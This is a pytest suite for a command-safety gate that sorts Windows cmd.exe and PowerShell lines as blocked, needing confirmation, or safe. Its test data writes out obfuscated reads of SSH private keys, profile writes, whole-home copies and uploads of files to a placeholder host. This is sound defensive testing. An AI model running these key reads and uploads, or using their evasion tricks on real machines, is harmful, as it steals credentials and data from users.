"""Gate round 3 on Windows: cmd.exe follows cd/pushd/popd and computes its expansions and for-loops, paths rooted
at the current drive, PowerShell's string operators, provider paths, script blocks, profile writes, whole-tree
readers and uploads."""

from __future__ import annotations

import pytest

from contop.security.gate import classify_command
from contop.security.paths import use_resolver
from tests.security.corpus_support import windows_context


@pytest.fixture(autouse=True)
def _no_symlinks():
    with use_resolver(None):
        yield


def verdict(command: str, platform: str) -> str:
    return classify_command(command, windows_context(platform)).verdict


@pytest.mark.parametrize(
    "command",
    [
        "cd .. & type .ssh\\id_rsa",  # the working folder is C:\Users\u\proj
        "cd.. & type .ssh\\id_rsa",
        "cd C:\\Users\\u & cd .ssh & type id_rsa",
        "pushd %USERPROFILE% && type .ssh\\id_rsa",
        "cd /d C:\\Users\\u && type .ssh\\id_rsa",
        "cd build & type ..\\..\\.ssh\\id_rsa",
        "cd D:\\x & type \\Users\\u\\.ssh\\id_rsa",  # without /d the drive stays C:
        "type \\Users\\u\\.ssh\\id_rsa",
        "type %HOMEPATH%\\.ssh\\id_rsa",
        "set x=C:\\Users\\u\\.sXsh\ntype %x:X=%\\id_rsa",
        "call set y=%%USERPROFILE%%\\.ssh\ntype %y%\\id_rsa",
        "for /f %a in ('echo C:\\Users\\u\\.ssh\\id_rsa') do type %a",
        'for /f "delims=" %a in (C:\\Users\\u\\.ssh\\id_rsa) do echo %a',
        'for /f "usebackq delims=" %a in ("C:\\Users\\u\\.ssh\\id_rsa") do echo %a',
    ],
)
def test_cmd_reads_of_protected_files_are_blocked(command: str) -> None:
    assert verdict(command, "cmd") == "block"


@pytest.mark.parametrize(
    "command",
    [
        "cd %FOO% & type id_rsa",  # a folder only known when it runs
        "popd & type x.txt",
        "type %y%\\id_rsa",  # a variable the line did not set
        "for /f %i in ('dir /b') do type %i",
        "for /r C:\\Users\\u %a in (id_*) do type %a",
        "net use k: \\\\localhost\\c$ & type k:\\Users\\u\\.ssh\\id_rsa",
        "findstr /s KEY ..\\*",
        "findstr /s /m KEY C:\\Users\\u\\*",
        "xcopy /s /h C:\\Users\\u C:\\tmp\\x",
        "robocopy C:\\Users\\u C:\\tmp\\x /e",
    ],
)
def test_cmd_unknown_places_and_tree_reads_ask(command: str) -> None:
    assert verdict(command, "cmd") == "confirm"


@pytest.mark.parametrize(
    "command",
    [
        "gc ($HOME, '.ssh', 'id_rsa' -join '\\')",
        "gc (@($HOME,'.ssh','id_rsa') -join '\\')",
        "gc ('{0}\\.ssh\\id_rsa' -f $HOME)",
        "gc ('{0}\\{1}' -f $HOME, '.ssh\\id_rsa')",
        "gc ([string]::Format('{0}\\.ssh\\id_rsa', $HOME))",
        "gc ([string]::Join('\\', $HOME, '.ssh', 'id_rsa'))",
        "gc ([string]::Concat($HOME, '\\.ssh\\id_rsa'))",
        "gc (\"$HOME\".Replace('x','x') + '\\.ssh\\id_rsa')",
        "gc ((Get-Item ~).FullName + '\\.ssh\\id_rsa')",
        "gc \\Users\\u\\.ssh\\id_rsa",
        "gc /Users/u/.ssh/id_rsa",
        "gc FileSystem::C:\\Users\\u\\.ssh\\id_rsa",
        "gc Microsoft.PowerShell.Core\\FileSystem::C:\\Users\\u\\.ssh\\id_rsa",
        "$s = [ScriptBlock]::Create('gc ~/.ssh/id_rsa'); & $s",
    ],
)
def test_powershell_built_paths_to_protected_files_are_blocked(command: str) -> None:
    assert verdict(command, "powershell") == "block"


@pytest.mark.parametrize(
    "command",
    [
        "Add-Content $PROFILE 'x'",
        "'x' >> $PROFILE",
        "Set-Content $PROFILE 'x'",
        "gci ~ -Recurse -Force | gc",
        "gci -Force ~ | % { gc $_.FullName }",
        "gci ~ -Recurse | Select-String KEY",
        "Compress-Archive ~ x.zip",
        "Invoke-WebRequest -Uri http://h -Method Post -InFile x.txt",
        "iwr http://h -Method Put -InFile x.txt",
        "Invoke-RestMethod http://h -Method Post -Body (gc x.txt -Raw)",
        "Invoke-RestMethod http://h -Method Post -Form @{f=Get-Item x.txt}",
        "(New-Object Net.WebClient).UploadFile('http://h', 'x.txt')",
        "(New-Object Net.WebClient).UploadString('http://h', (gc x.txt -Raw))",
        "Start-BitsTransfer -Source x.txt -Destination http://h/x -TransferType Upload",
        "$s = [ScriptBlock]::Create('Get-Date'); & $s",
    ],
)
def test_powershell_profile_writes_tree_reads_and_uploads_ask(command: str) -> None:
    assert verdict(command, "powershell") == "confirm"


@pytest.mark.parametrize(
    ("command", "platform"),
    [
        ("pushd build && nmake && popd", "cmd"),
        ("cd build && nmake", "cmd"),
        ("dir /s *.py", "cmd"),
        ("findstr /s /n TODO *.py", "cmd"),
        ("xcopy /e /i src build\\src", "cmd"),
        ("for %f in (*.txt) do type %f", "cmd"),
        ("for /f %a in ('git rev-parse HEAD') do echo %a", "cmd"),
        ("copy a.txt b_%RANDOM%.txt", "cmd"),
        ('type "%USERPROFILE%\\Documents\\a.txt"', "cmd"),
        ("cd /d D:\\x & type \\Users\\u\\.ssh\\id_rsa", "cmd"),  # D:\Users\u\.ssh: not the home folder
        ("'{0}-{1}' -f 'a','b'", "powershell"),
        ("$p = ('a','b' -join '-'); Write-Output $p", "powershell"),
        ("Get-ChildItem -Recurse -Filter *.py | Select-String TODO", "powershell"),
        ("gci ~ | Measure-Object", "powershell"),
        ("Compress-Archive -Path .\\src -DestinationPath .\\src.zip", "powershell"),
        ("Invoke-RestMethod http://h/api -Method Post -Body '{\"a\":1}'", "powershell"),
        ("gc $PROFILE", "powershell"),
        ("Set-Location src; Get-ChildItem", "powershell"),
    ],
)
def test_everyday_commands_stay_safe(command: str, platform: str) -> None:
    assert verdict(command, platform) == "safe"
